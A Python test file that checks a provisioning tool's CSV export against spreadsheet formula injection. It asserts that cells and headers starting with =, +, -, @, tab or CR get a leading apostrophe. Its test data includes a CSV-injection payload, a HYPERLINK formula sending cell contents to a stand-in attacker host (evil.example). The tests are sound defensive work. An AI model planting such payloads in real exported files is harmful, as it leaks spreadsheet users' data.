"""`provisioner export --format csv`: a results report for spreadsheets, every cell that a
spreadsheet would evaluate neutralised (OWASP's CSV-injection rule)."""

from __future__ import annotations

import csv
import io
from collections import Counter
from pathlib import Path

import orjson

from provisioner._outputs.report import neutralise
from provisioner.api import run_pipeline
from provisioner.sandbox.server import Sandbox

from .helpers import outputs, settings_for, write_csv
from .test_cli import provisioner

HOSTILE = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1": "'+1",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\tcmd": "'\tcmd",
    "\rcmd": "'\rcmd",
    "plain text": "plain text",
    "": "",
}  # fmt: skip


def read_report(path: Path) -> list[dict[str, str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # a BOM: Excel then reads UTF-8
    assert data.endswith(b"\r\n")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


async def test_export_csv_neutralises_formulas(sandbox: Sandbox, tmp_path: Path) -> None:
    """Pass-through cells holding =HYPERLINK(...), +1, -2+3, @SUM(...), a leading tab or
    CR come out with a leading ', plain ones unchanged; every row of the run is there
    with its status; the header is neutralised too; the four output files are untouched."""
    # A bare CR would need quoting that write_csv does not give it (neutralise's own test
    # below has it).
    values = [value for value in HOSTILE if "\r" not in value]
    rows = [(f"c{i:06d}", f"s{i:06d}", value, "=1+1", "note") for i, value in enumerate(values)]
    rows.append(("", "s-empty", '=HYPERLINK("x")', "+1", "invalid row"))  # failed
    rows.append(("c000001", "s000001", "@dup", "-1", "duplicate"))  # a repeat of line 3
    manifest = write_csv(
        tmp_path / "m.csv", rows, header=("campaign_id", "send_id", "note", "=cmd", "plain")
    )
    settings = settings_for(sandbox.url, tmp_path, manifest, quota=5, max_wait=0)
    result = await run_pipeline(settings)
    _, _, _, summary = outputs(tmp_path / "out")
    assert summary["counts"]["deferred"] > 0  # deferred rows are in the report too

    report = tmp_path / "report"
    code, _, err = await provisioner(
        "export", "--run", result.run_id, "--out", str(report), "--format", "csv",
        "--state", str(tmp_path / "state.sqlite3"),
    )  # fmt: skip
    assert code == 0, err
    assert "results.csv" in err
    assert "not a manifest" in err
    assert sorted(p.name for p in report.iterdir()) == ["results.csv"]
    got = read_report(report / "results.csv")
    assert len(got) == summary["rows_total"] == len(rows)
    assert Counter(r["status"] for r in got) == {k: v for k, v in summary["counts"].items() if v}
    header = list(got[0])
    assert header[:4] == ["line", "status", "campaign_id", "send_id"]
    assert "'=cmd" in header  # a column name is a cell too
    by_line = {int(r["line"]): r for r in got}
    for i, value in enumerate(values):
        row = by_line[i + 2]  # line 1 is the header
        assert row["note"] == HOSTILE[value], (value, row)
        assert row["'=cmd"] == "'=1+1"
        assert row["plain"] == "note"
        assert row["campaign_id"] == f"c{i:06d}"
    failed = by_line[len(values) + 2]
    assert failed["status"] == "failed"
    assert failed["error"]
    assert failed["note"] == '\'=HYPERLINK("x")'
    assert failed["'=cmd"] == "'+1"
    duplicate = by_line[len(values) + 3]
    assert duplicate["status"] == "duplicate"
    assert duplicate["duplicate_of"] == "3"
    assert duplicate["note"] == "'@dup"
    assert duplicate["'=cmd"] == "'-1"
    deferred = [r for r in got if r["status"] == "deferred"]
    assert all(r["reason"] == "quota" for r in deferred)
    # No cell anywhere starts as a formula would.
    for r in got:
        for name, cell in r.items():
            assert not name.startswith(("=", "+", "-", "@", "\t", "\r"))
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    # The run's own files are untouched: deferred.csv stays a byte-exact manifest.
    deferred_csv = (tmp_path / "out" / "deferred.csv").read_text(encoding="utf-8")
    assert "'=" not in deferred_csv
    assert orjson.loads((tmp_path / "out" / "summary.json").read_bytes()) == summary


def test_neutralise_follows_the_owasp_rule() -> None:
    """Exactly the cells starting with =, +, -, @, tab or CR get a leading '; numbers and
    None are written as text first."""
    for value, expected in HOSTILE.items():
        assert neutralise(value) == expected
    assert neutralise(None) == ""
    assert neutralise(200) == "200"
    assert neutralise(-5) == "'-5"
    assert neutralise(" =1") == " =1"  # not at the start: a spreadsheet shows it as text
    assert neutralise("a=1") == "a=1"
    assert neutralise("'=1") == "'=1"
